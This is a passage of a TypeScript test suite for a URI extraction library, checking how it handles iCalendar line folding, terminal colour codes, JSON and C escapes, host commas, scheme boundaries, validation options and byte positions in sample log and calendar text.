    expect(found.map((f) => [f.uri, f.wrapped])).toEqual([
      ["mailto:murch@example.com", true],
      ["mailto:cyrus@example.com", true],
      ["http://example.com/a/very/long/path/x.html", true],
    ]);
    expect(found[0]!.raw).toBe("mailto:murch@exampl\r\n e.com");
    // a fold right after a hyphen is still a fold: one reading, no variant
    expect(
      extractText("ATTENDEE;CN=x:mailto:cyrus@exam-\r\n ple.com\r\n").map((f) => [
        f.uri,
        f.variants,
      ]),
    ).toEqual([["mailto:cyrus@exam-ple.com", []]]);
    // quoted in an RFC: the continuation has one more space than the property line
    expect(uris("   ATTENDEE;PARTSTAT=NEEDS-ACTION:mailto:mike@exa\n    mple.com\n")).toEqual([
      "mailto:mike@example.com",
    ]);
  });

  test("only a content line whose value is the URI, and exactly one more space", () => {
    for (const text of [
      "Link: http://example.com/a\n and more",
      "URL: http://example.com/a\n b",
      "NOTE: see http://x.example/a\n b",
      "URL:http://example.com/a\n  two spaces",
      "url:http://example.com/a\n b",
    ]) {
      expect(
        uris(text).map((u) => u.endsWith("/a")),
        text,
      ).toEqual([true]);
    }
  });

  test("whatever the chunking", () => {
    expectAtEverySplit("ATTENDEE:mailto:cyrus@exampl\r\n e.com\r\nX", ["mailto:cyrus@example.com"]);
  });

  /** RFC 5545 §3.1's folding as writers do it: 75 octets, then a space and 74 more per line */
  const fold = (line: string): string => {
    const parts = [line.slice(0, 75)];
    for (let i = 75; i < line.length; i += 74) parts.push(` ${line.slice(i, i + 74)}`);
    return parts.join("\r\n");
  };

  test("a link inside a TEXT value (after a blank or an escaped newline), folded at 75 octets by its writer", () => {
    const zoom = "https://us02web.zoom.us/j/81234567890?pwd=Q2xhYk1RTVVvZz09cGFzc3dvcmQ";
    const teams =
      "https://teams.microsoft.com/l/meetup-join/19%3ameeting_NjA2ZTk1ZTctNGZlYi00@thread.v2/0";
    const ics = [
      "BEGIN:VCALENDAR",
      "BEGIN:VEVENT",
      fold(`DESCRIPTION:Hi there\\, join Zoom Meeting\\n${zoom}\\n\\nMeeting ID: 812 3456 7890`),
      // the link opens a continuation line, and is folded again
      fold(
        `X-ALT-DESC;FMTTYPE=text/plain:${"Microsoft Teams meeting. ".repeat(3)}Join: ${teams} now`,
      ),
      "LOCATION:Room 1",
      "END:VEVENT",
      "END:VCALENDAR",
      "",
    ].join("\r\n");
    // both links are broken by a fold
    expect(ics).not.toContain(zoom);
    expect(ics).not.toContain(teams);
    const found = extractText(ics);
    expect(found.map((f) => [f.uri, f.wrapped])).toEqual([
      [zoom, true],
      [teams, true],
    ]);
    expectAtEverySplit(ics, [zoom, teams]);
  });

  test("a link after another in its logical line, a continuation that opens with two blanks, a value that opens with a blank (the review's)", () => {
    const zoom = "https://us02web.zoom.us/j/81123456789?pwd=Q2xhYk1RTVVvZz09abcdefgh";
    for (const [text, uri] of [
      [
        "DESCRIPTION:See https://ex.org/a and more words to fill up this first line o\r\n f the text\\nhttps://us02web.zoom.us/j/81123456789?pwd=Q2xhYk1RTVVvZz09abc\r\n defgh\\n\r\n",
        zoom,
      ],
      [
        "DESCRIPTION:See https://ex.org/a then https://us02web.zoom.us/j/811234?pwd=Q\r\n 2xhYk1RTVVvZz09\\n\r\n",
        "https://us02web.zoom.us/j/811234?pwd=Q2xhYk1RTVVvZz09",
      ],
      [
        "DESCRIPTION:Meeting notes for the weekly sync of the platform team and the\r\n  other teams\\nJoin https://us02web.zoom.us/j/81123456789?pwd=Q2xhYk1RTVVvZz\r\n 09abcdefgh\\n\r\n",
        zoom,
      ],
      [
        "DESCRIPTION:  Join with Google Meet and talk about the quarterly numbers\r\n  https://us02web.zoom.us/j/81123456789?pwd=Q2xhYk1RTVVvZz09abcdefgh-ijk\r\n lmnop\\n\r\n",
        "https://us02web.zoom.us/j/81123456789?pwd=Q2xhYk1RTVVvZz09abcdefgh-ijklmnop",
      ],
    ] as const) {
      expect(uris(text).at(-1), text).toBe(uri);
      expectRecordsAtEverySplit(text);
    }
    // labels of logs and prose: a one-letter name, a blank after a name that is no TEXT property
    for (const text of [
      "W: Failed to fetch http://deb.debian.org/debian/dists/bookworm/InRelease.gpg\n Something wicked happened\n",
      "URL: https://example.com/some/really/long/path/to/the/resource/index.html\n and more\n",
    ]) {
      expect(
        extractText(text).map((f) => f.wrapped),
        text,
      ).toEqual([false]);
    }
  });

  test("a fold inside the scheme's name or after parameters with a blank (Outlook's ATTENDEE lines)", () => {
    const lines = ["John Doe", "John Do", "J", "John Doe2"].map((cn) =>
      fold(
        `ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=${cn}:MAILTO:john.doe@example.com`,
      ),
    );
    // the fold falls after "M", after "MA", inside the address, before the scheme
    expect(lines.map((l) => l.split("\r\n")[1])).toEqual([
      " AILTO:john.doe@example.com",
      " ILTO:john.doe@example.com",
      " ohn.doe@example.com",
      " MAILTO:john.doe@example.com",
    ]);
    const ics = ["BEGIN:VEVENT", ...lines, "END:VEVENT", ""].join("\r\n");
    const found = extractText(ics);
    expect(found.map((f) => [f.uri, f.wrapped])).toEqual([
      ["MAILTO:john.doe@example.com", true],
      ["MAILTO:john.doe@example.com", true],
      ["MAILTO:john.doe@example.com", true],
      ["MAILTO:john.doe@example.com", false],
    ]);
    expect(found[0]!.raw).toBe("M\r\n AILTO:john.doe@example.com");
    expectAtEverySplit(ics, Array(4).fill("MAILTO:john.doe@example.com"));
    // an escaped newline before the piece: "\n" is the escape's
    const desc = fold(
      `DESCRIPTION:${"Join the meeting on the web ".repeat(2)}here\\nhttps://x.example/a`,
    );
    expect(desc).toContain("\\nh\r\n ttps");
    expect(uris(desc)).toEqual(["https://x.example/a"]);
    // prose: a word after ":" at the end of a short line is no piece of a scheme
    expect(uris("Note:h\r\n ttps://x.example/b")).not.toContain("https://x.example/b");
  });

  test("a fold right after the scheme's colon (the hier-part goes on after the next line's blank)", () => {
    const zoom = "https://us02web.zoom.us/j/81234567890?pwd=Q2xhYk1RTVVvZz09";
    // the ":" is the 75th octet: the fold falls right after it
    const at75 = (head: string, filler: string, tail: string, rest: string) =>
      fold(`${head}${filler.repeat(80).slice(0, 75 - head.length - tail.length)}${tail}${rest}`);
    const cases = [
      [
        at75(
          "DESCRIPTION:Join Zoom Meeting ",
          "x",
          " now\\nhttps:",
          "//us02web.zoom.us/j/81234567890?pwd=Q2xhYk1RTVVvZz09\\n",
        ),
        zoom,
      ],
      [
        at75(
          "X-ALT-DESC:Join ",
          "y",
          " (https:",
          "//us02web.zoom.us/j/81234567890?pwd=Q2xhYk1RTVVvZz09)",
        ),
        zoom,
      ],
      [
        at75("ATTENDEE;RSVP=TRUE;CN=J", "z", ":MAILTO:", "john.doe@example.com"),
        "MAILTO:john.doe@example.com",
      ],
    ] as const;
    for (const [text, uri] of cases) {
      expect(text).toMatch(/:\r\n \S/);
      const found = extractText(`BEGIN:VEVENT\r\n${text}\r\nEND:VEVENT\r\n`);
      expect(
        found.map((f) => [f.uri, f.wrapped]),
        text,
      ).toEqual([[uri, true]]);
      expect(found[0]!.raw).toMatch(/:\r\n [/j]/);
      expectAtEverySplit(`${text}\r\nEND:VEVENT\r\n`, [uri]);
    }
    // python-icalendar's folds: between the scheme and its ":", before a scheme's last letter
    // after a blank or the value's ":", inside the escaped newline before a scheme
    const more = [
      [
        at75("DESCRIPTION:Talk ", "w", " about\\n\\nhttps", "://meet.google.com/fey-czzu-gpu\\n"),
        "https://meet.google.com/fey-czzu-gpu",
      ],
      [
        at75("DESCRIPTION:Talk ", "w", " by: mailto", ":user418@example.com\\n"),
        "mailto:user418@example.com",
      ],
      [
        at75("DESCRIPTION:Talk ", "w", " by: mailt", "o:user217@example.com\\n"),
        "mailto:user217@example.com",
      ],
      [
        at75('ATTENDEE;CN="Review Phone";RSVP=TRUE', "v", ":mailt", "o:a@b.example"),
        "mailto:a@b.example",
      ],
      [
        at75("DESCRIPTION:Talk ", "w", " please\\", "nmailto:user496@example.com\\nby"),
        "mailto:user496@example.com",
      ],
    ] as const;
    for (const [text, uri] of more) {
      expect(text).toMatch(/\r\n [:on]/);
      expect(uris(text), text).toEqual([uri]);
      expectAtEverySplit(`${text}\r\nEND:VEVENT\r\n`, [uri]);
    }
    // no content line: prose, a short line, two blanks
    for (const text of [
      `Join Zoom Meeting ${"x".repeat(50)} https:\r\n //us02web.zoom.us/j/1`,
      "DESCRIPTION:Join https:\r\n //us02web.zoom.us/j/1",
      `DESCRIPTION:Join Zoom Meeting ${"x".repeat(37)} https:\r\n  //us02web.zoom.us/j/1`,
      `Join Zoom Meeting ${"x".repeat(51)} https\r\n ://us02web.zoom.us/j/1`,
      `DESCRIPTION:Join Zoom Meeting ${"x".repeat(20)} mailt\r\n o:ab@x.example`,
      `NOTE: see ${"x".repeat(58)} mailt\r\n o:ab@x.example`,
    ]) {
      expect(uris(text), text).toEqual([]);
    }
  });

  test("the review's (session 37): a log level is no property, an escape's backslash is no RFC 8792 fold, a link past 1 kB of a long DESCRIPTION, a fold at the input's end", () => {
    // Python's default log format opens with a level and ":"
    for (const text of [
      "WARNING:pip.index:Links with these schemes are ignored: http, ftp, file:\n /home/user/wheels and the rest\n",
      "ERROR:app.fetch:could not download the page, retrying with plain https\n ://mirror.example.org/x failed\n",
    ]) {
      expect(uris(text), text).toEqual([]);
    }
    // "\\n" split by a tab fold: two links, not one
    const esc = `DESCRIPTION:Join ${"x".repeat(37)} https://zoom.us/j/1\\\r\n\tnmailto:a@b.example\r\n`;
    expect(esc.split("\r\n")[0]).toHaveLength(75);
    expect(uris(esc)).toEqual(["https://zoom.us/j/1", "mailto:a@b.example"]);
    expectRecordsAtEverySplit(esc);
    // a link 3 kB into a folded DESCRIPTION (Teams' and Meet's are long), its fold inside it
    // and right after "https:"
    const zoom = "https://us02web.zoom.us/j/81234567890?pwd=abcdefghijklmnopqrstuvwxyz";
    for (const cut of [20, 6]) {
      const value = `DESCRIPTION:${"word ".repeat(600)}`;
      const pad = "x".repeat(75 - ((value.length + cut) % 74) + 74);
      const line = `${value}${pad} ${zoom}\\n`;
      const text = `${fold(line)}\r\nEND:VEVENT\r\n`;
      expect(text).not.toContain(zoom);
      expect(uris(text), String(cut)).toEqual([zoom]);
    }
    // the input ends one byte into the continuation line
    expect(uris(`DESCRIPTION:call ${"a".repeat(53)} news:\r\n x`)).toEqual(["news:x"]);
  });

  test("not a fold: a short line, prose indented by one space, no property name, two spaces", () => {
    const long = "http://example.com/a/long/path/that/reaches/the/end/of/a/folded/ln";
    for (const text of [
      `NOTE: see ${long.slice(0, 40)}\r\n b`,
      ` indented prose: ${long}\n and more`,
      `Some text here ${long}\r\n b`,
      `DESCRIPTION:see ${long}\r\n  b`,
    ]) {
      expect(
        extractText(text).map((f) => f.wrapped),
        text,
      ).toEqual([false]);
    }
  });
});

describe("logs: terminal colours, JSON \\u escapes, log fields", () => {
  test("an ANSI colour sequence glued to the scheme is not the scheme's", () => {
    expect(uris("x \x1b[31mhttps://x.example/a\x1b[0m y")).toEqual(["https://x.example/a"]);
    expect(
      uris("\x1b[1;34mhttp://b.example/\x1b[0m and \x1b[4mmailto:a@b.example\x1b[24m"),
    ).toEqual(["http://b.example/", "mailto:a@b.example"]);
    expect(uris("\x1b[0;1;38;2;255;255;255mhttp://t.example/\x1b[0m")).toEqual([
      "http://t.example/",
    ]);
    // without the ESC it is text: "31mhttp" glued to digits
    expect(uris("[31mhttp://x.example/ 12:30:45")).toEqual([]);
  });

  test("a JSON \\uXXXX escape glued to the scheme is not the scheme's", () => {
    expect(uris('"\\u003chttps://y.example/a\\u003e"')).toEqual(["https://y.example/a"]);
    expect(uris('{"m":"see \\u0022mailto:a@b.example\\u0022"}')).toEqual(["mailto:a@b.example"]);
  });

  test("example: (RFC 7595 §8, for documentation) only with //: YANG prefixes, Maven", () => {
    expect(
      uris(
        '"example:interface" : [ and \x1b[0;36mexample:example\x1b[0;1m and example:example:jar:1.0',
      ),
    ).toEqual([]);
    expect(uris("see example://a/b/c")).toEqual(["example://a/b/c"]);
  });

  test('"DNS:" in capitals is a certificate\'s name label (RFC 5280 §4.2.1.6), not a dns: URI', () => {
    // openssl x509 -text, curl -v
    expect(
      uris(
        "X509v3 Subject Alternative Name: \n    DNS:nodejs.org, DNS:www.nodejs.org, IP Address:192.0.2.1, URI:https://ca.example/x",
      ),
    ).toEqual(["https://ca.example/x"]);
    expect(uris('*  subjectAltName: host "example.com" matched cert\'s "DNS:example.com"')).toEqual(
      [],
    );
    // RFC 4501's own form, and a wrapper or "URL:" that says it is a URI
    expect(uris("dns:example.org?type=A <DNS:example.net> URL:DNS:example.com")).toEqual([
      "dns:example.org?type=A",
      "DNS:example.net",
      "DNS:example.com",
    ]);
    expect(uris("DNS://192.0.2.1/example.org")).toEqual(["DNS://192.0.2.1/example.org"]);
  });

  test("a line of /etc/passwd, group or shadow whose name is a registered scheme is no URI", () => {
    expect(
      uris(
        "proxy:x:13:13:proxy:/bin:/usr/sbin/nologin\nnews:x:9:9:news:/var/spool/news:/usr/sbin/nologin\n" +
          "fax:x:21:\nnews:*:19000:0:99999:7:::\nnews:!::\nirc:x:39:39:ircd:/run/ircd:/usr/sbin/nologin\n" +
          "news:comp.lang.c",
      ),
    ).toEqual(["news:comp.lang.c"]);
  });

  test("Apache module:level tags and dpkg package:architecture are log fields", () => {
    expect(
      uris(
        "[Wed Oct 11 14:32:53 2024] [proxy:error] [pid 9] [ssh:info] [session:debug] [dav:trace3]",
      ),
    ).toEqual([]);
    expect(uris("2024-05-01 status installed git:amd64 1:2.39.2\nconfigure file:all 1")).toEqual(
      [],
    );
    expect(uris("configuration of git:amd64: and unselected package git:arm64.")).toEqual([]);
    // a level ends a tag only in brackets: "see news:alert]" is a newsgroup; so is a name
    // that goes on after an architecture's "." (found by the planted-URI test)
    expect(uris("see news:alert] now")).toEqual(["news:alert"]);
    expect(uris('"news:x32.a" news:all.x git:x32.')).toEqual(["news:x32.a", "news:all.x"]);
    // after "URL:" it is a URI (found by the planted-URI test)
    expect(uris("<url: urn:all:a> URL:news:all URL: news:amd64")).toEqual([
      "urn:all:a",
      "news:all",
      "news:amd64",
    ]);
    // (the word was "git:master", until git required its "//": git://host…)
    expect(uris("[about:blank] [news:master] about:blank")).toEqual([
      "about:blank",
      "news:master",
      "about:blank",
    ]);
  });

  test("an ANSI control sequence inside a URI is dropped: the URI the terminal shows", () => {
    // Vite's banner, as a CI log keeps it
    const vite = "  Local:   \x1b[36mhttp://localhost:\x1b[1m5173\x1b[22m/\x1b[39m\n";
    const f = one(vite);
    expect(f.uri).toBe("http://localhost:5173/");
    expect(f.raw).toBe("http://localhost:\x1b[1m5173\x1b[22m/");
    expect(f.wrapped).toBe(false);
    // grep --color marks a match inside the URI
    expect(uris("see http://exa\x1b[01;31m\x1b[Kmple\x1b[m\x1b[K.com/a ok")).toEqual([
      "http://example.com/a",
    ]);
    // a sequence at the end goes with the trailing punctuation
    expect(uris("at http://x.example/a.\x1b[0m\n")).toEqual(["http://x.example/a"]);
    // an ESC that starts no CSI sequence ends the URI (OSC 8 hyperlinks end with ESC "\\")
    expect(uris("\x1b]8;;http://example.com/osc\x1b\\link\x1b]8;;\x1b\\")).toEqual([
      "http://example.com/osc",
    ]);
  });

  test("a JSON \\uXXXX escape inside a URI stands for its character", () => {
    // Go's encoding/json escapes "&", "<" and ">"
    const f = one('{"url":"https://x.example/?a=1\\u0026b=2","n":1}');
    expect(f.uri).toBe("https://x.example/?a=1&b=2");
    expect(f.raw).toBe('"https://x.example/?a=1\\u0026b=2"');
    // Python's json.dumps escapes non-ASCII: an IRI (RFC 3987), UTF-16 pairs included
    const g = one('{"u": "https://de.wikipedia.org/wiki/M\\u00fcnchen"}');
    expect(g.uri).toBe("https://de.wikipedia.org/wiki/München");
    expect(g.normalized).toBe("https://de.wikipedia.org/wiki/M%C3%BCnchen");
    expect(uris('"http://x.example/\\ud83d\\ude00/a"')).toEqual(["http://x.example/😀/a"]);
    // a character no URI holds ends it: a quote, "<", a control, a lone surrogate
    expect(uris('"see \\u0022http://x.example/a\\u0022 now"')).toEqual(["http://x.example/a"]);
    expect(uris("http://x.example/a\\u003cb")).toEqual(["http://x.example/a"]);
    expect(uris("http://x.example/a\\ud83dz")).toEqual(["http://x.example/a"]);
    expect(uris("http://x.example/a\\u12")).toEqual(["http://x.example/a"]);
    // an escaped trailing punctuation mark is stripped like the mark; "&" is kept
    expect(uris("http://x.example/a\\u002e and http://x.example/?b\\u0026")).toEqual([
      "http://x.example/a",
      "http://x.example/?b&",
    ]);
  });

  test("an escaped character is weighed as the raw one would be, or ends the URI", () => {
    // in the host: no symbol, no script written without spaces (as raw characters)
    expect(uris("\\u3044http://example.com\\u3044\\u307e http://example.com\\u2122 x")).toEqual([
      "http://example.com",
      "http://example.com",
    ]);
    expect(uris("http://b\\u00fccher.example/M\\u00fcnchen")).toEqual([
      "http://bücher.example/München",
    ]);
    // quotes, brackets, commas and emphasis marks that the scan weighs end the URI escaped
    expect(
      uris("http://example.com\\u0027s (https://a.example/x\\u0029) https://p.example/a\\u002cb"),
    ).toEqual(["http://example.com", "https://a.example/x", "https://p.example/a"]);
    // "%" only as the start of a percent-encoding
    expect(uris("http://a.example/x\\u0025zz y http://a.example/x\\u00252F")).toEqual([
      "http://a.example/x",
      "http://a.example/x%2F",
    ]);
    // a colour or an escaped dot inside an http host: its comma still ends it
    expect(uris("https://a.example\x1b[0m,direct https://proxy\\u002egolang.org,direct")).toEqual([
      "https://a.example",
      "https://proxy.golang.org",
    ]);
  });

  test("a colour written as text, a C or nginx \\xHH escape: as the raw characters", () => {
    expect(
      uris(
        [
          '1.2.3.4 - - "GET /?q=\\x22https://a.example/x\\x22 HTTP/1.1" 200',
          '{"log":"  \\u001b[36mhttp://localhost:\\u001b[1m5173\\u001b[22m/\\u001b[39m\\n"}',
          'echo -e "\\033[1mhttps://b.example/x\\033[0m" "\\e[1mhttps://c.example/y\\e[0m"',
          '"\\x1b[31mhttps://d.example/z\\x1B[0m" and \\e http://e.example/',
        ].join("\n"),
      ),
    ).toEqual([
      "https://a.example/x",
      "http://localhost:5173/",
      "https://b.example/x",
      "https://c.example/y",
      "https://d.example/z",
      "http://e.example/",
    ]);
    expectAtEverySplit('"\\u001b[1mhttp://l:\\033[1m5173\\e[0m/a\\x1b[0m"', ["http://l:5173/a"]);
    // a backslash is no final byte: it begins the next escape
    expect(uris("http://a.example/x\\e[\\n y http://b.example/y\\e[\\e[0m z")).toEqual([
      "http://a.example/x",
      "http://b.example/y",
    ]);
  });

  test("escapes in a host follow the raw characters' rules", () => {
    expect(uris("http://\\u6771\\u4eac.jp/ http://\\u2605df.ws/ http://c\\u2736.ws")).toEqual([
      "http://東京.jp/",
      "http://★df.ws/",
      "http://c✶.ws",
    ]);
    expect(uris("https://a.example/x\\u003fq,https://b.example/ http://a.example\\u002f-")).toEqual(
      ["https://a.example/x", "https://b.example/", "http://a.example"],
    );
  });

  test("escapes cut by a chunk boundary are read whole", () => {
    expectAtEverySplit("x http://a.example/\\u002541 y", ["http://a.example/%41"]);
    // the comma is the userinfo's when an "@" follows: the escape before it is read first
    expectAtEverySplit("x http://e.example,\x1b[1m@h.example/ y", ["http://e.example,@h.example/"]);
    expectAtEverySplit("x http://a.example,\\u0061@h.example/ y", [
      "http://a.example,a@h.example/",
    ]);
    expectAtEverySplit("x http://a.example,\\.@h.example/ y", ["http://a.example,.@h.example/"]);
    expectAtEverySplit("x http://a.example,\\u0061.b y", ["http://a.example"]);
  });

  test("whatever the chunking", () => {
    const text =
      "a \x1b[1;34mhttp://b.example/\x1b[0m [proxy:error] \\u0022mailto:a@b.example\\u0022 z";
    expectAtEverySplit(text, ["http://b.example/", "mailto:a@b.example"]);
    expectAtEverySplit("x http://l:\x1b[1m5173\x1b[22m/a\x1b[39m y", ["http://l:5173/a"]);
    expectAtEverySplit('"http://x.example/M\\u00fc\\ud83d\\ude00?a\\u0026b"', [
      "http://x.example/Mü😀?a&b",
    ]);
  });
});

describe("a comma in an http(s), ws(s) or ftp host (RFC 1123 §2.1: not in a DNS name)", () => {
  test("ends the URI: a list, an environment variable", () => {
    expect(uris("GOPROXY=https://proxy.golang.org,direct")).toEqual(["https://proxy.golang.org"]);
    expect(uris('GOPROXY="https://proxy.golang.org,direct" go build')).toEqual([
      "https://proxy.golang.org",
    ]);
    expect(uris("http://a.example,http://b.example,ftp://c.example:21,d")).toEqual([
      "http://a.example",
      "http://b.example",
      "ftp://c.example:21",
    ]);
  });

  test("not in the userinfo, the path or the query, nor for other schemes", () => {
    expect(uris("http://user,x@host.example/a,b?c,d#e,f")).toEqual([
      "http://user,x@host.example/a,b?c,d#e,f",
    ]);
    expect(uris("mongodb://h1.example,h2.example/db")).toEqual([
      "mongodb://h1.example,h2.example/db",
    ]);
    // an IPvFuture literal may hold a comma (RFC 3986 §3.2.2); an IRI host ends at one too
    expect(uris("http://[v1.a,b]/p and http://[::1],x")).toEqual([
      "http://[v1.a,b]/p",
      "http://[::1]",
    ]);
    expect(uris("http://bücher.example,direct")).toEqual(["http://bücher.example"]);
  });

  test("past the host, a comma glued to the next scheme:// separates two URIs", () => {
    expect(uris("CORS=https://a.example/cb,https://b.example/cb,ftp://c.example/")).toEqual([
      "https://a.example/cb",
      "https://b.example/cb",
      "ftp://c.example/",
    ]);
    // JSON escapes every "/"
    expect(uris('"https:\\/\\/a.example\\/x,https:\\/\\/b.example\\/y"')).toEqual([
      "https://a.example/x",
      "https://b.example/y",
    ]);
    // in a query a value may list URIs: one URI
    expect(uris("https://example.com/share?urls=https://a.example/,https://b.example/")).toEqual([
      "https://example.com/share?urls=https://a.example/,https://b.example/",
    ]);
    // a scheme is at most 32 bytes here: a longer word is no scheme, at every split
    const long = `http://x/,${"a".repeat(33)}://b`;
    expect(uris(long)).toEqual([long]);
    expectAtEverySplit(`${long} http://x/,${"a".repeat(32)}://b`, [
      long,
      "http://x/",
      `${"a".repeat(32)}://b`,
    ]);
    expect(uris("http://a.example:1/x,http://b.example:2/y")).toEqual([
      "http://a.example:1/x",
      "http://b.example:2/y",
    ]);
    // not a comma before something else, nor a scheme without "//", nor in a host list
    expect(uris("http://a.example/x,y:z,mailto:a@b.example http://a.example/x,1http://b")).toEqual([
      "http://a.example/x,y:z,mailto:a@b.example",
      "http://a.example/x,1http://b",
    ]);
    expect(uris("mongodb://h1.example,h2.example/db,x")).toEqual([
      "mongodb://h1.example,h2.example/db,x",
    ]);
    expectAtEverySplit("x https://a.example/cb,https://b.example/cb y", [
      "https://a.example/cb",
      "https://b.example/cb",
    ]);
  });

  test("a | before the path of a quoted URI is a label's separator", () => {
    expect(uris("'http://a.example|Example' \"https://b.example|B\"")).toEqual([
      "http://a.example",
      "https://b.example",
    ]);
  });

  test("whatever the chunking: the host's end may come in a later chunk", () => {
    const text = "x https://proxy.golang.org,direct y";
    expectAtEverySplit(text, ["https://proxy.golang.org"]);
  });
});

describe("where a scheme starts (DESIGN: look back from the colon)", () => {
  test("after another field's colon only a scheme whose syntax shows it: mailto, urn, tel", () => {
    expect(uris("ORGANIZER:mailto:cyrus@example.com")).toEqual(["mailto:cyrus@example.com"]);
    expect(uris('ORGANIZER;CN="Ken Murchison":mailto:murch@example.com')).toEqual([
      "mailto:murch@example.com",
    ]);
    expect(uris("URI:urn:ietf:params:xml:ns:yang:ietf-dc-fabric-types")).toEqual([
      "urn:ietf:params:xml:ns:yang:ietf-dc-fabric-types",
    ]);
    // Maven coordinates and host:port:field lists stay fields; sip has no rule to tell
    expect(uris("com.example:app:jar:1.0 and host:8080:info:x")).toEqual([]);
    expect(uris("proto:sip:5060 org.foo:sip:jar:1.0 key:sip:value")).toEqual([]);
  });

  test("not inside a word or a path: after @, / or _ only scheme://", () => {
    expect(uris("Caller@example:IDENTITY")).toEqual([]);
    expect(uris('path "/ni:network-instances/ni:name";')).toEqual([]);
    expect(uris("Country/Service:(Forward) x_mailto:a@b.example")).toEqual([]);
    expect(uris("test.example@http://vk.com")).toEqual(["http://vk.com"]);
    expect(uris("write to _mailto:a@b.example_ now")).toEqual(["mailto:a@b.example"]);
  });

  test("a dotted run that starts with a registered scheme is not the scheme, also in quotes", () => {
    // (git-config(1): the URL is the key's subsection, ".extraheader" its variable: session
    // 34, git-config-keys.ts; in <…> the writer marked the URI)
    for (const text of [
      "git config --local --unset-all 'http.https://github.com/.extraheader'",
      'git config "http.https://github.com/.extraheader"',
      "x http.https://github.com/.extraheader y",
    ]) {
      expect(uris(text), text).toEqual(["https://github.com/"]);
    }
    expect(uris("<http.https://github.com/.extraheader>")).toEqual([
      "https://github.com/.extraheader",
    ]);
    expect(uris("x foo.https://github.com/.extraheader y")).toEqual([
      "https://github.com/.extraheader",
    ]);
    // a wrapper still marks where an unregistered dotted scheme starts
    expect(uris("<a.aw://x>")).toEqual(["a.aw://x"]);
  });

  test("registered schemes whose syntax refuses prose: mid, ni, service", () => {
    expect(uris("a=mid:1 a=mid:audio Service:Forward ni:name")).toEqual([]);
    expect(
      uris(
        "see mid:960830.1639@XIson.com/partA.960830.1639@XIson.com and ni:///sha-256;UyaQV-Ev4rdLo",
      ),
    ).toEqual([
      "mid:960830.1639@XIson.com/partA.960830.1639@XIson.com",
      "ni:///sha-256;UyaQV-Ev4rdLo",
    ]);
  });
});

describe("validation, filters and positions", () => {
  test("only valid candidates unless includeInvalid", () => {
    expect(uris("see http://:80/ and http://example.com/")).toEqual(["http://example.com/"]);
    const all = extractText("see http://:80/ and http://example.com/", { includeInvalid: true });
    expect(all.map((f) => f.valid)).toEqual([false, true]);
    expect(all[0]!.normalized).toBeNull();
    expect(all[0]!.errors.length).toBeGreaterThan(0);
  });

  test("schemes allow-list", () => {
    const text = "http://a.example/ ftp://b.example/ mailto:c@example.com";
    expect(uris(text, { schemes: ["ftp", "MAILTO"] })).toEqual([
      "ftp://b.example/",
      "mailto:c@example.com",
    ]);
  });

  test("records carry the core's analysis", () => {
    const f = one("http://user:pass@example.com:8080/");
    const a = analyzeUri(f.uri);
    expect([f.scheme, f.valid, f.errors, f.warnings, f.normalized]).toEqual([
      a.scheme,
      a.valid,
      a.errors,
      a.warnings,
      a.normalized,
    ]);
  });

  test("byte offsets, 1-based line and byte column", () => {
    const text = "é\r\nline two <http://example.com/>\nthree http://example.org/x";
    const found = extractText(text);
    const bytes = Buffer.from(text);
    for (const f of found) expect(bytes.subarray(f.start, f.end).toString()).toBe(f.raw);
    expect(found.map((f) => [f.line, f.column])).toEqual([
      [2, 10],
      [3, 7],
    ]);
  });

  test("uri never holds control characters", () => {
    const text =
      "<http://example.com/a\u0001b> http://example.com/c\u0000d http://example.com/e\u007ff";
    for (const f of extractText(text, { includeInvalid: true })) {
      expect(f.uri).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    }
  });

  test("maxLength: longer bare runs are not considered", () => {
    const long = `http://example.com/${"a".repeat(200)}`;
    expect(uris(`${long} http://example.com/short`, { maxLength: 100 })).toEqual([
      "http://example.com/short",
    ]);
    expect(uris(long, { maxLength: 1000 })).toEqual([long]);
  });

  test("maxLength: a URI of exactly maxLength bytes is considered, in every wrapper", () => {
    const uri = `http://example.com/${"a".repeat(8192 - 19)}`;
    expect(uri.length).toBe(8192);
    for (const [open, close, delimiter] of [
      [" ", " ", "bare"],
      ["<", ">", "angle"],
      ['"', '"', "quote"],
      ["(", ")", "paren"],
    ]) {
      const f = extractText(`x ${open}${uri}${close} y`);
      expect(f.map((r) => [r.uri, r.delimiter])).toEqual([[uri, delimiter]]);
      // one byte more is not considered (the angle and the quote fall back to the bare rules)
      expect(extractText(`x ${open}${uri}b${close} y`)).toEqual([]);
    }
    expect(uris("x http://a.ex/abcd y", { maxLength: 16 })).toEqual(["http://a.ex/abcd"]);
    expect(uris("x http://a.ex/abcde y", { maxLength: 16 })).toEqual([]);
  });
});

describe("scheme registry", () => {
  test("IANA permanent, provisional and historical", () => {
    expect(schemeStatus("http")).toBe("permanent");
    expect(schemeStatus("SPOTIFY")).toBe("provisional");
    expect(schemeStatus("wais")).toBe("historical");
    expect(isRegisteredScheme("key")).toBe(false);
  });
});

describe("fuzzy (linkify-it)", () => {
  test("schemeless links and e-mail addresses, not duplicating scheme'd URIs", () => {
    const text = "visit www.example.com or mail joe@example.org; also http://www.example.net/x.";
    const found = extractText(text, { fuzzy: true });
    expect(found.map((f) => [f.uri, f.delimiter])).toEqual([
      ["http://www.example.com", "fuzzy"],
      ["mailto:joe@example.org", "fuzzy"],
      ["http://www.example.net/x", "bare"],
    ]);
    expect(found[0]!.raw).toBe("www.example.com");
    expect(found[1]!.column).toBe(31);
    expect(uris(text)).toEqual(["http://www.example.net/x"]);
  });

  test("offsets are bytes after non-ASCII text", () => {
    const text = "日本語 www.example.com\nzweite Zeile: ä joe@example.org";
    const bytes = Buffer.from(text);
    for (const f of extractText(text, { fuzzy: true })) {
      expect(bytes.subarray(f.start, f.end).toString()).toBe(f.raw);
    }
  });
});

describe("line counting (positions.ts)", () => {
  test("countLf = a plain count, at any alignment and length", async () => {
    const { countLf } = await import("../../src/extract/positions.js");
    const fc = (await import("fast-check")).default;
    fc.assert(
      fc.property(
        // up to 2,500 bytes: past the 127 word pairs after which the per-byte counters are summed
        fc.uint8Array({ maxLength: 2500 }).map((a) => a.map((b) => (b % 4 === 0 ? 0x0a : b))),
        fc.nat(7),
        fc.nat(),
        fc.nat(),
        (bytes, shift, x, y) => {
          const backing = new Uint8Array(bytes.length + 8);
          backing.set(bytes, shift);
          const view = backing.subarray(shift, shift + bytes.length);
          const from = bytes.length ? x % bytes.length : 0;
          const to = from + (bytes.length ? y % (bytes.length - from + 1) : 0);
          let naive = 0;
